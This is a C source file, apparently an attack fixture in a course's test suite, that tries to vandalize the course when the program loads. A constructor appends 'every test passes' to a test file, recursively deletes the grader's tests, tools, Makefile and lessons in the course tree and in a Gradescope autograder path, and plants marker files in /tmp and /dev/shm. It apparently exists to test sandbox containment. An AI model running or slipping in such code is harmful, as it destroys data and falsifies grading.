
/* ---- attack: delete and change files of the course (tests/attacks/delete-course) ---- */
#include "attack.h" /* tests/attacks/attack.h, laid beside this file */
#include <fcntl.h>
#include <ftw.h>

static int atk_remove(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st, (void)type, (void)ftw;
    remove(path);
    return 0;
}

/* Change a test file, delete the grader's tests, tools, Makefile and the
 * other lessons of root. */
static void atk_vandalize(const char *root)
{
    char path[4300];
    snprintf(path, sizeof path, "%s/tests/01-first-socket.c", root);
    FILE *f = fopen(path, "a");
    if (f) {
        fputs("\n/* every test passes */\n", f);
        fclose(f);
    }
    static const char *const victims[] = {
        "tests", "tools", "Makefile", "lessons/02-addresses", "lessons/03-bind-and-ports", "README.md"};
    for (size_t i = 0; i < sizeof victims / sizeof victims[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", root, victims[i]);
        nftw(path, atk_remove, 16, FTW_DEPTH | FTW_PHYS);
    }
}

/* Vandalize the course tree this program was built in, and the autograder's
 * course on Gradescope; leave a file in /tmp and /dev/shm. Nothing else. */
__attribute__((constructor)) static void atk_delete_course(void)
{
    char root[4096];
    if (atk_course_root(root, sizeof root) == 0)
        atk_vandalize(root);
    char ag[4096];
    if (atk_autograder_root(ag, sizeof ag) == 0) {
        snprintf(root, sizeof root, "%.4000s/source/socklab", ag);
        atk_vandalize(root);
    }
    static const char *const planted[] = {"/tmp/socklab-attack-was-here", "/dev/shm/socklab-attack-was-here"};
    for (size_t i = 0; i < 2; i++) {
        int fd = open(planted[i], O_WRONLY | O_CREAT, 0644);
        if (fd >= 0)
            close(fd);
    }
}
